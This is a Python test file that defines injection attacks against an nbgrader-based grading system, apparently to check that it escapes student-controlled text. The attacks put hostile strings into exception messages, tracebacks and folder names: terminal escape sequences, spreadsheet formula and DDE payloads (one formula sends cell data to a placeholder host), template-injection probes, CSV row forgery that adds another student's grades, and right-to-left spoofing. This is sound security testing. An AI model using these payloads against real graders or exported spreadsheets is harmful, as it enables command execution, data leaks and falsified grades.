"""Attacks of class 16: a student's text that could become HTML, a formula, a terminal command or a template.

The text is in messages and tracebacks, in names of files, and in names of students' folders. nbgrader grades these
attacks, see ``test_class``.
"""

import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

from .attack import WRONG, Attack
from .notebooks import SCRIPT

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31m\x1b]8;;javascript:x\x1b\\\r\b\0\x9b31m\u202edlrow\u2066\u200f"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"open")\n+1+cmd|\' /C calc\'!A0\n@SUM(A1)\t-2+3'
TEMPLATE = "{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} {0.__class__} %(asctime)s %n ${7*7}"
CONSOLE = "[/] [/bold] [link=javascript:x]here[/link] [blink]x"


def raising(text: str, times: int = 1, kind: str = "ValueError") -> str:
    """Return a module whose ``affine_forward`` raises an exception with this text."""
    return f"\ndef affine_forward(x, w, b):\n    reached()\n    raise {kind}({text!r} * {times})\n"


def renamed(name: str | bytes) -> Callable[[Path, dict[str, Any]], None]:
    """Return a function that renames the student's folder."""

    def plant(folder: Path, facts: dict[str, Any]) -> None:
        folder.parent.rename(folder.parent.with_name(os.fsdecode(name)))

    return plant


def _files(folder: Path, facts: dict[str, Any]) -> None:
    for text in (SCRIPT, ESCAPES, FORMULA, TEMPLATE, CONSOLE, "\u202eyp.x", "a\nb", " "):
        name = text.replace("/", "\u2215").replace("\0", "")[:60]
        (folder / "cs231n" / f"{name}.py").write_text("pass\n")
        (folder / f"{name}.exe").write_text("pass\n")


def _named(what: str, name: str | bytes, tries: str) -> Attack:
    """Return an attack by a folder whose name cannot be a student's id: the log says so, and it gets no row or page."""
    return Attack(16, what, tries, WRONG, plant=renamed(name), earns={}, shows="is not graded", runs=False)


PLACE = """
def affine_forward(x, w, b):
    reached()
    code = compile("def boom():\\n    raise type(NAME, (Exception,), {})(NAME)\\n", NAME, "exec")
    names = {"NAME": NAME}
    exec(code, names)
    names["boom"].__code__ = names["boom"].__code__.replace(co_name=NAME, co_filename=NAME)
    names["boom"]()
"""

CLASS_ATTACKS = (
    Attack(16, "html-in-a-message", "to run a script in the page", raising(SCRIPT), shows="<script>"),
    Attack(16, "escapes-in-a-message", "to control the terminal of the person who grades", raising(ESCAPES), shows="owned"),
    Attack(16, "formula-in-a-message", "to run as a formula when a table is opened", raising(FORMULA), shows="HYPERLINK"),
    Attack(16, "template-in-a-message", "to be rendered as the grader's template", raising(TEMPLATE), shows=r"\{\{ 7\*7 \}\}"),
    Attack(16, "markup-in-a-message", "to break or fake the printed tables", raising(CONSOLE), shows="blink"),
    Attack(16, "endless-message", "to fill pages, tables and memory", raising("<b>", 10**6), shows="<b>"),
    Attack(16, "html-in-a-traceback", "to run a script through the name of a function, a file or an exception", f"\nNAME = {SCRIPT!r}\n" + PLACE),
    Attack(16, "escapes-in-a-traceback", "to control a terminal through the name of a function, a file or an exception", f"\nNAME = {ESCAPES.replace(chr(0), '')!r}\n" + PLACE),
    Attack(16, "files-of-all-names", "to break tables, pages and terminals by the names of files", WRONG, plant=_files),
    _named("formula-as-a-name", '=HYPERLINK("http:example.invalid","x")', "to run as a formula when the exported grades are opened"),
    _named("plus-as-a-name", "+1+cmd|' C calc'!A0", "to run as a formula when the exported grades are opened"),
    _named("minus-as-a-name", "-2+3", "to run as a formula when the exported grades are opened, or to be read as an option"),
    _named("at-as-a-name", "@SUM(A1)", "to run as a formula when the exported grades are opened"),
    _named("tab-as-a-name", "\t=1+1", "to run as a formula when the exported grades are opened"),
    _named("row-as-a-name", "x\nassignment2,,,aaa-honest,,,,0,0,0,100", "to add another student's row to the exported grades"),
    _named("columns-as-a-name", "x,100,100;100", "to shift the columns of the exported grades"),
    _named("html-as-a-name", SCRIPT.replace("/", "")[:120], "to run a script in formgrader"),
    _named("escapes-as-a-name", ESCAPES.replace("\0", ""), "to control the terminal of the person who grades"),
    _named("right-to-left-as-a-name", "tnedifnoc\u202e-honest", "to look like another student"),
    _named("pattern-as-a-name", "*", "to match every student"),
    _named("format-as-a-name", "{student_id.__class__}", "to be filled in by nbgrader as a format string"),
    _named("bytes-as-a-name", b"\xff\xfe", "to be bytes that are not text"),
    _named("long-name", "n" * 255, "to leave no room for a suffix"),
)  # fmt: skip
"""Attacks that nbgrader grades in ``test_class``."""
